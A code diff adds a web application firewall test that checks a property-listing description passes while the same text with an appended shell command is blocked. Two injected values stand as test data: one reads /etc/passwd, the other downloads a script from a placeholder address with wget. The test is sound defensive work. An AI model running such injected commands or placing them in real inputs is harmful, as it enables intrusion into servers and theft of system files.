@@ -675,3 +675,20 @@ describe('waf API profile: held-out 7 (session 6, measured once as written, then
     }
   });
 });
+
+describe('waf API profile: long sentences with quotes, dates, ranges and a prose semicolon (session 6)', () => {
+  test('listing descriptions and applications pass; the same sentences with a command after the semicolon do not', async () => {
+    const listing =
+      "Utilities not included — expect ~$120/month. The building has a 'no short lets' rule, so Airbnb/holiday lets are not permitted. EPC rating B (84). A 24-hour gym is within 5 minutes; service charge £1,840/yr (covers insurance, cleaning and the lift). Letter dated 04/11/2025 attached; the farmers' market is on Saturdays.";
+    assert.equal((await run(plain, { description: listing })).error?.reason?.startsWith('waf:'), true);
+    assert.equal((await run(api, { description: listing })).error, undefined);
+    for (const description of [
+      `${listing.slice(0, 120)}; service charge ; cat /etc/passwd`,
+      `${listing.slice(0, 120)}; wget http://203.0.113.9/x.sh -O /tmp/x`,
+    ]) {
+      assert.ok((await run(api, { description })).error !== undefined, description);
+    }
+    assert.equal(proseQuotesInert("DO NOT list as 'no issues'. Landlord wants it"), true);
+    assert.equal(proseQuotesInert("Hi 'x' .5 there"), false);
+  });
+});
